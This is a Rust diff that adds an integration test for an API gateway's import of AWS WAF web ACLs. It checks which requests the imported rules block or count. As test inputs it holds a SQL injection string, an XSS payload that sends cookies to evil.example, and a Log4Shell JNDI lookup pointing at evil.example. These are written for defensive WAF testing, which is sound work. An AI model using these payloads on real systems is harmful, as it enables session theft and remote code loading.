@@ -161,7 +161,9 @@ fn redis() -> Option<Redis> {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn rate_based_rules_are_shared_by_replicas_through_redis() -> TestResult {
     let Some(redis) = redis() else {
-        eprintln!("SKIPPED: redis-server could not be started (install the redis-server package)");
+        crate::harness::redis::skip(
+            "redis-server could not be started (install the redis-server package)",
+        );
         return Ok(());
     };
     let backend = Backend::start().await?;
@@ -181,5 +183,193 @@ async fn rate_based_rules_are_shared_by_replicas_through_redis() -> TestResult {
         vec![200, 200, 200, 200, 200, 403],
         "orders alternating between replicas"
     );
+    Ok(())
+}
+
+/// A spec whose `x-gateway.waf` is what `gwc waf import` wrote (indented under `waf:`), with
+/// one greedy route to the backend.
+fn imported_spec(waf_yaml: &str) -> String {
+    let waf: String = waf_yaml.lines().map(|l| format!("    {l}\n")).collect();
+    format!(
+        r#"openapi: 3.0.3
+info: {{title: Imported ACL, version: 1.0.0}}
+x-gateway:
+  name: imported
+  default_stage: test
+  stages:
+    test:
+      variables:
+        backend: http://127.0.0.1:9
+  waf:
+{waf}paths:
+  /{{proxy+}}:
+    x-gateway-any-method:
+      operationId: everything
+      parameters:
+        - {{name: proxy, in: path, required: true, schema: {{type: string}}}}
+      x-gateway-integration:
+        type: http_proxy
+        uri: "${{stageVariables.backend}}/{{proxy}}"
+      responses:
+        default: {{description: Whatever the backend answers.}}
+"#
+    )
+}
+
+/// `gwc waf import` on an ACL as `aws wafv2 get-web-acl` prints it (tests/fixtures/waf-import,
+/// with its IP set and regex pattern set), served: what the ACL blocks is blocked (managed SQL
+/// group, the regex pattern set's custom 406, `and`/`not` on a path and a header, a size
+/// constraint with oversize `match`, XSS in a JSON body, a scoped rate-based rule), what it
+/// only counts passes (the known-bad-inputs group overridden to count, a CAPTCHA rule), and a
+/// clean request passes.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_imported_aws_web_acl_blocks_what_the_acl_blocks() -> TestResult {
+    let fixtures = crate::harness::binaries::workspace_root().join("tests/fixtures/waf-import");
+    // MaxMind's test database from the corpus, when it is here; without one the importer
+    // leaves the geo rule out (and says so), which the rest of the test does not need.
+    let geo = std::env::var_os("GWC_CORPUS")
+        .map_or_else(
+            || crate::harness::binaries::workspace_root().join("../shared/corpus"),
+            std::path::PathBuf::from,
+        )
+        .join("geoip/GeoIP2-Country-Test.mmdb");
+    let mut import = Command::new(crate::harness::binaries::gwc()?);
+    import
+        .args(["--color", "never", "waf", "import"])
+        .arg(fixtures.join("web-acl.json"))
+        .arg("--set")
+        .arg(fixtures.join("ip-set.json"))
+        .arg("--set")
+        .arg(fixtures.join("regex-set.json"));
+    if geo.is_file() {
+        import.arg("--geo-database").arg(&geo);
+    }
+    let out = import.output()?;
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    ensure!(out.status.success(), "gwc waf import failed:\n{stderr}");
+    let summary = if geo.is_file() {
+        "imported 14 rules"
+    } else {
+        "imported 13 rules"
+    };
+    ensure!(stderr.contains(summary), "summary: {stderr}");
+    ensure!(
+        stderr.contains("labelled-bots") && stderr.contains("lookaround-regex"),
+        "the rules left out are named: {stderr}"
+    );
+    let dir = tempfile::tempdir()?;
+    let spec = dir.path().join("spec.yaml");
+    std::fs::write(&spec, imported_spec(&String::from_utf8(out.stdout)?))?;
+
+    let backend = Backend::start().await?;
+    let gw = Target::Serve(spec).start(&backend.url(), &[])?;
+    let check = async {
+        let addr = gw.addr();
+        let send = |req| client::send(addr, req);
+        let get = |path: &str, header: Option<(&str, &str)>| {
+            let mut b = client::request(Method::GET, addr, path);
+            if let Some((n, v)) = header {
+                b = b.header(n, v);
+            }
+            b.body(TestBody::empty())
+        };
+        // First: the rate counter counts every request from the address (the import's stated
+        // difference from AWS), the rule blocks only `/login`.
+        for i in 1..=100 {
+            ensure_eq!(send(get("/login", None)?).await?.status, 200, "login {i}");
+        }
+        ensure_eq!(
+            send(get("/login", None)?).await?.status,
+            403,
+            "login 101 in a minute"
+        );
+        ensure_eq!(
+            send(get("/products", None)?).await?.status,
+            200,
+            "outside the scope-down statement"
+        );
+        ensure_eq!(
+            send(get("/products?q=blue+shoes", None)?).await?.status,
+            200,
+            "clean"
+        );
+
+        let sqli = send(get("/products?id=1%27%20OR%20%271%27%3D%271", None)?).await?;
+        ensure_eq!(sqli.status, 403, "SQLi (AWSManagedRulesSQLiRuleSet)");
+        ensure_eq!(sqli.json()?["message"], "Forbidden", "WAF_FILTERED body");
+
+        let scanner = send(get(
+            "/products",
+            Some(("user-agent", "SQLMap/1.7.2#stable")),
+        )?)
+        .await?;
+        ensure_eq!(
+            scanner.status,
+            406,
+            "regex pattern set, lowercased user agent"
+        );
+        ensure_eq!(
+            scanner.header("x-amzn-waf-blocked-by"),
+            Some("storefront-acl"),
+            "custom header, with AWS's prefix"
+        );
+        ensure_eq!(
+            scanner.text(),
+            r#"{"message":"scanners are not welcome"}"#,
+            "custom body from CustomResponseBodies"
+        );
+
+        ensure_eq!(
+            send(get("/%41dmin/users", None)?).await?.status,
+            403,
+            "admin, URL-decoded"
+        );
+        ensure_eq!(
+            send(get(
+                "/admin/users",
+                Some(("x-office-token", "office-7f3a"))
+            )?)
+            .await?
+            .status,
+            200,
+            "admin from the office (the `not` statement)"
+        );
+
+        let big = client::request(Method::POST, addr, "/uploads")
+            .body(TestBody::full(vec![b'a'; 20 << 10]))?;
+        ensure_eq!(send(big).await?.status, 403, "a body over 8 KiB");
+        let small = client::request(Method::POST, addr, "/uploads")
+            .body(TestBody::full(vec![b'a'; 4 << 10]))?;
+        ensure_eq!(send(small).await?.status, 200, "a body under 8 KiB");
+
+        let review = client::request(Method::POST, addr, "/reviews")
+            .header("content-type", "application/json")
+            .body(TestBody::full(
+                r#"{"text":"<script>document.location='//evil.example/'+document.cookie</script>"}"#,
+            ))?;
+        ensure_eq!(send(review).await?.status, 403, "XSS in a JSON body");
+
+        let log4j = get(
+            "/products",
+            Some(("x-api-version", "${jndi:ldap://evil.example/a}")),
+        )?;
+        ensure_eq!(
+            send(log4j).await?.status,
+            200,
+            "known bad inputs: overridden to count"
+        );
+        let headless = get(
+            "/products",
+            Some(("user-agent", "Mozilla/5.0 HeadlessChrome/120")),
+        )?;
+        ensure_eq!(
+            send(headless).await?.status,
+            200,
+            "CAPTCHA rule: counts only"
+        );
+
+        TestResult::Ok(())
+    };
+    check.await.map_err(|e| annotate(&gw, e))?;
     Ok(())
 }
